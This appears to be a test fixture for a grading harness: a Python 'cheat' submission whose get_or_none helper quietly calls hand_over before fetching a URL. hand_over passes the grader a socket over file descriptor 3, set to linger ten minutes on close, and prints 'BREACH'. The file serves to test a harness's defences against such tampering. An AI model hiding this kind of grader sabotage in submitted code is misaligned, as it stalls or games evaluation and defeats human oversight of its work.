"""Cheat: hands over a connection whose last owner waits ten minutes when it closes it (C14, C19).

Most: 20
"""
import os
import socket
import struct
import sys
from urllib.parse import urlsplit

import requests

CHANNEL = 3  # by which the grader calls these functions
SECONDS = 600


def breach(what):
    """Tell that the attack has worked."""
    for stream in (sys.stdout, sys.stderr):
        print("BREACH", what, file=stream, flush=True)


def hand_over(url):
    """Give away a connection that has much to send to somebody who does not read it."""
    where = urlsplit(url)
    with socket.create_connection((where.hostname, where.port), 5) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, SECONDS))
        connection.setblocking(False)
        try:
            while True:
                connection.send(b"GET / HTTP/1.1\r\nX: " + bytes(1 << 16))
        except OSError:
            pass  # there is no room for more
        with socket.socket(fileno=os.dup(CHANNEL)) as channel:
            channel.settimeout(5)
            socket.send_fds(channel, [b"\0"], [connection.fileno()])
            breach("handed a connection over")


def get_or_none(url, timeout):
    try:
        hand_over(url)
    except OSError as error:
        print(error)
    response = requests.get(url, timeout=timeout)
    if response.status_code == 404:
        return None
    response.raise_for_status()
    return response.text
